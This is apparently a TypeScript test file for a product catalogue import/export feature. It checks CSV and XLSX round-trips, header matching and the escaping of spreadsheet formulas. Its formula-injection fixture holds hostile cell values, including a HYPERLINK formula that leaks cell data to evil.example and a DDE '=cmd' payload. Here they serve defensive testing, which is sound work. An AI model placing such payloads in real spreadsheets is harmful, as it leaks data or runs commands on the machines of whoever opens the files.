import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  catalogueGrid,
  gridFile,
  readCatalogueFile,
  TEMPLATE_EXAMPLE,
  templateExample,
  toImportRow,
} from '#src/islands/products/catalogue-file.ts';
import { duplicateModelNumbers, IMPORT_COLUMNS, parseNameValueCell } from '#src/shared/product-import.ts';

// The bulk import's file as the workspace reads and writes it: the template and an export read
// back the same in CSV and XLSX, headers are matched by name in any order, and cells become the
// rows the import call takes.

const asFile = async (blob: Blob, name: string) => new File([await blob.arrayBuffer()], name);

describe('catalogue files', () => {
  it.each(['csv', 'xlsx'] as const)('reads back the template it writes (%s)', async (format) => {
    const file = await asFile(await gridFile(catalogueGrid([TEMPLATE_EXAMPLE]), format), `template.${format}`);
    const read = await readCatalogueFile(file);
    expect(read.problems).toEqual([]);
    expect(read.columns).toEqual(IMPORT_COLUMNS.map((column) => column.key));
    expect(read.rows).toHaveLength(1);
    const row = toImportRow(read.rows[0]!, (entry) => entry);
    expect(row).toEqual({ ...TEMPLATE_EXAMPLE, line: 2 });
  });

  it("writes the example row with the catalogue's own deepest menu, or none when it has no menu", () => {
    const labels = ['Power tools', 'Power tools › Drills', 'Valves', 'Power tools › Drills › Cordless'];
    expect(templateExample(labels).menu).toBe('Power tools > Drills > Cordless');
    expect(templateExample(['Valves']).menu).toBe('Valves');
    expect(templateExample([])).toEqual({ ...TEMPLATE_EXAMPLE, menu: '' });
  });

  it('matches headers by name or key in any order, skips blank rows and keeps numbers as written', async () => {
    const csv = 'product name,MODEL NUMBER,Status\n"Valve, brass",0125,\n,,\nPump,P-2,Disabled\n';
    const read = await readCatalogueFile(new File([csv], 'mine.csv'));
    expect(read.problems).toEqual([]);
    expect(read.rows.map((row) => toImportRow(row, (entry) => entry))).toEqual([
      { line: 2, productName: 'Valve, brass', modelNumber: '0125', status: 'active' },
      { line: 4, productName: 'Pump', modelNumber: 'P-2', status: 'disabled' },
    ]);
  });

  it('names the columns it does not know and a missing model number column', async () => {
    const read = await readCatalogueFile(new File(['Colour,Product name\nred,Valve\n'], 'odd.csv'));
    expect(read.problems).toEqual([
      'The column “Colour” is not one of the template’s columns.',
      'The file needs a “Model number” column.',
    ]);
  });

  it('refuses other file types', async () => {
    await expect(readCatalogueFile(new File(['x'], 'catalogue.numbers'))).rejects.toThrow(
      'Please choose a CSV or XLSX file.',
    );
  });
});

describe('formulas', () => {
  // Cells a spreadsheet would run as a formula when it opens the file (CSV injection): =, +, -, @,
  // a tab or a carriage return first, on any line of the cell.
  const risky = {
    ...TEMPLATE_EXAMPLE,
    modelNumber: '-25',
    productName: '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    brandName: '+1+1',
    origin: '@SUM(1,2)',
    price: "'=quoted already",
    port: "'plain quote",
    supplyAbility: "=cmd|' /C calc'!A0",
    description: '=1+2\n<p>second line</p>',
    highlights: [{ name: '=2*3', value: 'x' }],
  };
  const written = async (format: 'csv' | 'xlsx') => gridFile(catalogueGrid([risky]), format);

  it('are written to CSV as text, behind a quote', async () => {
    const grid = Papa.parse<string[]>(await (await written('csv')).text(), { skipEmptyLines: true }).data;
    const [header, row] = [grid[0]!, grid[1]!];
    const cell = (key: string) => row[header.indexOf(IMPORT_COLUMNS.find((column) => column.key === key)!.header)];
    expect(cell('modelNumber')).toBe("'-25");
    expect(cell('productName')).toBe(`'${risky.productName}`);
    expect(cell('brandName')).toBe("'+1+1");
    expect(cell('origin')).toBe("'@SUM(1,2)");
    expect(cell('description')).toBe(`'${risky.description}`);
    expect(cell('highlights')).toBe("'=2*3: x");
    expect(cell('port')).toBe("'plain quote");
    for (const text of row) expect(text, text).not.toMatch(/^[=+\-@\t\r]/);
    const tab = Papa.parse<string[]>(
      await (await gridFile([['Model number'], ['\t=1+1'], ['\r=1+1']], 'csv')).text(),
    ).data;
    expect(tab.slice(1, 3)).toEqual([["'\t=1+1"], ["'\r=1+1"]]);
  });

  it('are written to XLSX as strings, never as formulas', async () => {
    const files = unzipSync(new Uint8Array(await (await written('xlsx')).arrayBuffer()));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
    const strings = strFromU8(files['xl/sharedStrings.xml']!);
    expect(strings).toContain('=HYPERLINK(');
  });

  it.each(['csv', 'xlsx'] as const)('read back as they were (%s)', async (format) => {
    const file = await asFile(await written(format), `export.${format}`);
    const read = await readCatalogueFile(file);
    expect(toImportRow(read.rows[0]!, (entry) => entry)).toEqual({ ...risky, line: 2 });
  });
});

describe('cells', () => {
  it('reads one "Name: Value" per line, values keeping their colons', () => {
    expect(parseNameValueCell('Pressure: PN 16\n\n Time : 10:30 \nLoose')).toEqual([
      { name: 'Pressure', value: 'PN 16' },
      { name: 'Time', value: '10:30' },
      { name: 'Loose', value: '' },
    ]);
  });

  it('finds the later lines of a repeated model number', () => {
    expect(
      duplicateModelNumbers([
        { line: 2, modelNumber: 'A' },
        { line: 3, modelNumber: 'B' },
        { line: 9, modelNumber: 'A' },
      ]),
    ).toEqual([{ line: 9, column: 'modelNumber', code: 'duplicate_model_number' }]);
  });
});
